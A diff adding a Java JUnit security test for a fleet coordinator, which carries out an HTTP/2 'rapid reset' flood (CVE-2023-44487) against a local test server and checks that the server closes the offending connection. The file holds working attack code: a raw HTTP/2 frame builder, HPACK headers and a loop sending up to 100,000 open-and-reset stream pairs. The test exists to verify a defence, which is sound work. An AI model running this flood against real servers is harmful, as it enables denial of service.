@@ -1,0 +1,151 @@
+package io.dsfleet.coordinator.security;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.awaitility.Awaitility.await;
+
+import io.dsfleet.coordinator.grpc.FakeAgent;
+import io.dsfleet.proto.v1.CoordinatorMessage;
+import io.dsfleet.proto.v1.GetRequest;
+import io.dsfleet.proto.v1.ObjectKind;
+import java.io.ByteArrayOutputStream;
+import java.io.DataInputStream;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.concurrent.atomic.AtomicBoolean;
+import javax.net.ssl.SSLParameters;
+import javax.net.ssl.SSLSocket;
+import org.junit.jupiter.api.Test;
+
+/**
+ * HTTP/2 "rapid reset" (CVE-2023-44487) without a credential: one connection opens a Join stream
+ * and resets it at once, over and over. A reset stream no longer counts against the 64 calls a
+ * connection may hold, so the cap never bites, while each stream still costs the coordinator a call
+ * (its lookup, the interceptors, a task on the call threads, the 10 s timer of a call without a
+ * certificate): some 20 bytes of the attacker's for each. gRPC sets no bound on resets unless asked.
+ */
+class StreamResetFloodTest extends TlsFleetTest {
+  static final int PAIRS = 100_000;
+
+  @Test
+  void aConnectionResettingStreamsInALoopIsClosed() throws Exception {
+    FakeAgent agent = new FakeAgent(as(join("node-a", token())), "node-a").open();
+    agents.add(agent);
+
+    Socket raw = new Socket();
+    raw.bind(new InetSocketAddress(InetAddress.getByName("127.0.0.2"), 0));
+    raw.connect(new InetSocketAddress("127.0.0.1", server.port()), 2000);
+    SSLSocket s = (SSLSocket) attackerTls().getSocketFactory().createSocket(raw, "127.0.0.1", server.port(), true);
+    SSLParameters p = s.getSSLParameters();
+    p.setApplicationProtocols(new String[] {"h2"});
+    s.setSSLParameters(p);
+    s.startHandshake();
+    OutputStream out = s.getOutputStream();
+    synchronized (out) {
+      out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
+      out.write(frame(4, 0, 0, new byte[0]));
+      out.flush();
+    }
+    AtomicBoolean closed = new AtomicBoolean();
+    AtomicBoolean goAway = new AtomicBoolean();
+    Thread reader = new Thread(() -> read(s, out, closed, goAway), "attacker-reader");
+    reader.setDaemon(true);
+    reader.start();
+
+    byte[] headers = joinHeaders();
+    int sent = 0;
+    long t0 = System.nanoTime();
+    try {
+      while (sent < PAIRS && !closed.get()) {
+        ByteArrayOutputStream batch = new ByteArrayOutputStream();
+        for (int i = 0; i < 256 && sent < PAIRS; i++, sent++) {
+          int stream = 2 * sent + 1;
+          batch.write(frame(1, 0x4, stream, headers)); // HEADERS, END_HEADERS: a Join call opens
+          batch.write(frame(3, 0, stream, new byte[] {0, 0, 0, 8})); // RST_STREAM CANCEL: and is reset
+        }
+        synchronized (out) {
+          out.write(batch.toByteArray());
+          out.flush();
+        }
+      }
+    } catch (IOException e) {
+      // the coordinator closed the connection under us
+    }
+    long sendMillis = (System.nanoTime() - t0) / 1_000_000;
+    await().atMost(Duration.ofSeconds(20)).until(() -> closed.get() || !reader.isAlive() || Duration.ofNanos(System.nanoTime() - t0)
+        .toSeconds() >= 15);
+    System.out.printf("rapid reset: %d streams opened and reset in %d ms; GOAWAY %s, connection closed %s%n", sent, sendMillis,
+        goAway.get(), closed.get());
+    s.close();
+
+    // the fleet is served all along
+    agent.received.clear();
+    agent.heartbeat();
+    await().atMost(Duration.ofSeconds(10)).until(() -> agent.received.stream().anyMatch(CoordinatorMessage::hasHeartbeatAck));
+    control(credentialFile("admin.pem")).get(GetRequest.newBuilder().setKind(ObjectKind.NODE).build());
+
+    assertThat(closed.get()).as("the coordinator closed the connection that reset " + sent + " streams").isTrue();
+    assertThat(sent).as("well before the attacker's " + PAIRS).isLessThan(PAIRS);
+  }
+
+  /** Reads frames until the connection ends, acknowledging SETTINGS and PINGs as a client must. */
+  private static void read(SSLSocket s, OutputStream out, AtomicBoolean closed, AtomicBoolean goAway) {
+    try {
+      DataInputStream in = new DataInputStream(s.getInputStream());
+      while (true) {
+        int length = (in.readUnsignedByte() << 16) | in.readUnsignedShort();
+        int type = in.readUnsignedByte();
+        int flags = in.readUnsignedByte();
+        in.readInt();
+        byte[] payload = in.readNBytes(length);
+        if (type == 7) {
+          goAway.set(true);
+        } else if ((type == 4 || type == 6) && (flags & 1) == 0) {
+          synchronized (out) {
+            out.write(frame(type, 1, 0, type == 6 ? payload : new byte[0]));
+            out.flush();
+          }
+        }
+      }
+    } catch (IOException e) {
+      closed.set(true);
+    }
+  }
+
+  static byte[] frame(int type, int flags, int stream, byte[] payload) {
+    byte[] f = new byte[9 + payload.length];
+    f[0] = (byte) (payload.length >>> 16);
+    f[1] = (byte) (payload.length >>> 8);
+    f[2] = (byte) payload.length;
+    f[3] = (byte) type;
+    f[4] = (byte) flags;
+    f[5] = (byte) (stream >>> 24);
+    f[6] = (byte) (stream >>> 16);
+    f[7] = (byte) (stream >>> 8);
+    f[8] = (byte) stream;
+    System.arraycopy(payload, 0, f, 9, payload.length);
+    return f;
+  }
+
+  /** A Join call's request headers in HPACK, literals without indexing or Huffman: the same bytes serve every stream. */
+  static byte[] joinHeaders() {
+    ByteArrayOutputStream h = new ByteArrayOutputStream();
+    h.write(0x83); // :method POST
+    h.write(0x87); // :scheme https
+    literal(h, new byte[] {0x04}, "/dsfleet.v1.AgentService/Join"); // :path
+    literal(h, new byte[] {0x01}, "127.0.0.1"); // :authority
+    literal(h, new byte[] {0x0f, 0x10}, "application/grpc"); // content-type (static index 31)
+    literal(h, new byte[] {0x00, 0x02, 't', 'e'}, "trailers");
+    return h.toByteArray();
+  }
+
+  private static void literal(ByteArrayOutputStream h, byte[] name, String value) {
+    h.writeBytes(name);
+    h.write(value.length());
+    h.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
+  }
+}
